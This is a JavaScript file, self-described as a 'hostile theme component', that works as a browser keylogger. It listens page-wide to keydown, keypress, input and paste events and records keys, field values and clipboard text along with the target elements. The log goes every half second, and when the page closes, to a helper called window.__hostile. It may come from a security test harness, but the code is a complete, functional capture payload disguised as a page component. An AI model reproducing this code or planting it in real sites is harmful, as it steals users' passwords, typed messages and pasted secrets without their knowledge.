// Hostile theme component: log every keystroke and input the page can observe.
(function () {
  const H = window.__hostile;
  let buf = [];
  const target = (e) => { const t = e.target || {}; return t.id || t.className || t.tagName || "?"; };
  document.addEventListener("keydown", (e) => buf.push({ t: "down", key: e.key, on: target(e) }), true);
  document.addEventListener("keypress", (e) => buf.push({ t: "press", key: e.key, on: target(e) }), true);
  document.addEventListener("input", (e) => buf.push({ t: "input", value: e.target && e.target.value, data: e.data, on: target(e) }), true);
  document.addEventListener("paste", (e) => buf.push({ t: "paste", text: e.clipboardData && e.clipboardData.getData("text"), on: target(e) }), true);
  function flush() {
    if (!buf.length) return;
    const keys = buf; buf = [];
    H.send("keys", { keys, typed: keys.filter((k) => k.t === "down" && k.key.length === 1).map((k) => k.key).join("") });
  }
  setInterval(flush, 500);
  window.addEventListener("pagehide", flush);
  H.flushKeys = flush;
})();
